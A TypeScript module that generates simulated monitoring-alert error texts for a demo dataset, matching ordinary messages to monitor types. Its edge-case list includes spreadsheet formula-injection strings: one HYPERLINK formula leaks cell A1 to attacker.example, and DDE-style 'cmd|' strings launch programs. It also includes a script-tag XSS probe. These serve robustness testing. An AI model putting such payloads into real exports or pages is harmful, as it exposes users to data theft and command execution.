/**
 * Error texts for simulated alerts. Most are ordinary; the tail holds the awkward ones a pipeline
 * must survive: text that a spreadsheet would run as a formula, control characters, markup, quotes,
 * non-Latin scripts and a very long body.
 */

const ORDINARY = [
  'HTTP status 500, while 200 expected',
  'HTTP status 503, while 200 expected',
  'Connection refused',
  'The operation has timed out (30000 ms)',
  'DNS lookup failed: no such host is known',
  "Step 4 (https://galactic-shop.example.com/cart): Element '.wn-product-btn' not found.",
  'Load time limit 2 exceeded (8123 ms)',
  'Could not connect to the database server',
  'SMTP server did not answer with 220 within 20 seconds',
  'Page content does not match the expected pattern',
  'Certificate will expire in 5 days',
  'Ping: 100% packet loss',
];

const AWKWARD = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  '+1 555 0100 unreachable',
  '@SUM(A1:A9) returned an unexpected value',
  "-2+3 then cmd|' /C calc'!A0",
  'Control characters:\u0007bell\u0000nul\ttab\r\nCRLF\u001b[31mansi\u007fdel',
  '<script>alert("x")</script> & "quotes", \'single\'; semi;colon, comma',
  'Zeitüberschreitung – 時間切れ – انتهت المهلة 🚨',
  `Response body: ${'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(160)}[truncated]`,
];

/** Every description; indices are stored per incident. */
export const ALERT_DESCRIPTIONS: readonly string[] = Object.freeze([...ORDINARY, ...AWKWARD]);

/** Index of the first awkward description (the generator picks these rarely). */
export const FIRST_AWKWARD_DESCRIPTION = ORDINARY.length;

function text(t: string): number {
  const index = ORDINARY.indexOf(t);
  if (index < 0) throw new Error(`alert-texts: no ordinary text ${JSON.stringify(t)}`);
  return index;
}
const NETWORK = [
  text('Connection refused'),
  text('The operation has timed out (30000 ms)'),
  text('DNS lookup failed: no such host is known'),
];
const HTTP = [
  text('HTTP status 500, while 200 expected'),
  text('HTTP status 503, while 200 expected'),
  ...NETWORK,
  text('Load time limit 2 exceeded (8123 ms)'),
  text('Page content does not match the expected pattern'),
];

/**
 * The ordinary texts that fit each monitor type (a Ping monitor never reports an SMTP greeting): an
 * incident's first error reads as the service's would, so the demo's incident pages look like a
 * real account's. Types not named take the network failures every check can meet.
 */
const BY_TYPE: Readonly<Record<string, readonly number[]>> = {
  Http: HTTP,
  Https: HTTP,
  WebserviceHttp: HTTP,
  WebserviceHttps: HTTP,
  FullPageCheck: HTTP,
  Transaction: [
    ...HTTP,
    text("Step 4 (https://galactic-shop.example.com/cart): Element '.wn-product-btn' not found."),
  ],
  MultiStepApi: HTTP,
  PostmanApi: HTTP,
  Ping: [text('Ping: 100% packet loss'), ...NETWORK.slice(1)],
  SMTP: [text('SMTP server did not answer with 220 within 20 seconds'), ...NETWORK],
  MySQL: [text('Could not connect to the database server'), ...NETWORK],
  MSSQL: [text('Could not connect to the database server'), ...NETWORK],
  Certificate: [text('Certificate will expire in 5 days'), ...NETWORK],
  DNS: [NETWORK[2]!, NETWORK[1]!],
};

/**
 * The index in ALERT_DESCRIPTIONS of an ordinary text for a monitor of `type`, from `pick` (a draw
 * in 0 .. FIRST_AWKWARD_DESCRIPTION - 1): the same draw as before types mattered, so every other
 * figure of a seeded dataset stays as it was.
 */
export function ordinaryDescription(type: string, pick: number): number {
  const fitting = BY_TYPE[type] ?? NETWORK;
  return fitting[pick % fitting.length]!;
}

/** Optional ErrorMessage texts. */
export const ALERT_ERROR_MESSAGES: readonly string[] = Object.freeze([
  'Checkpoint Amsterdam: connection timed out after 30 s',
  'Server returned 503 Service Unavailable (Retry-After: 120)',
  'TLS handshake failed: certificate has expired',
  'Confirmed from checkpoint Frankfurt and checkpoint London',
  "=cmd|'/C notepad'!A1",
]);
